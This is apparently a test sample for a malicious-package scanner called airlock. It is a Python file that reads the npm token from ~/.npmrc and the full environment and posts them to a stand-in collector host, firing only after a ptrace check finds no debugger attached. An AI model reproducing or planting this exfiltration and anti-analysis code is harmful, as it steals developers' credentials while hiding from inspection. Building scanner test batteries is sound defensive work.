# DEFANGED evasion-battery sample (issue 16). Only ever run inside `airlock scan`.
HOST = 'pyinstall-beacon.com'
# The payload (defanged): the npm token from ~/.npmrc and the environment, posted to a
# made-up collector that only airlock's sink answers. Runs only when the check above
# believes nobody is watching.
def steal(tag):
    import json, os, urllib.request
    try:
        npmrc = open(os.path.expanduser("~/.npmrc")).read()
    except OSError:
        npmrc = ""
    body = json.dumps({"tag": tag, "npmrc": npmrc, "env": dict(os.environ)}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request("http://%s/v2/collect" % HOST, data=body,
                                                      headers={"content-type": "application/json"}), timeout=10)
    except Exception:
        pass

import ctypes, ctypes.util
libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
PTRACE_TRACEME = 0
traced = libc.ptrace(PTRACE_TRACEME, 0, None, None) != 0 and ctypes.get_errno() == 1
if not traced:
    steal("ptrace")
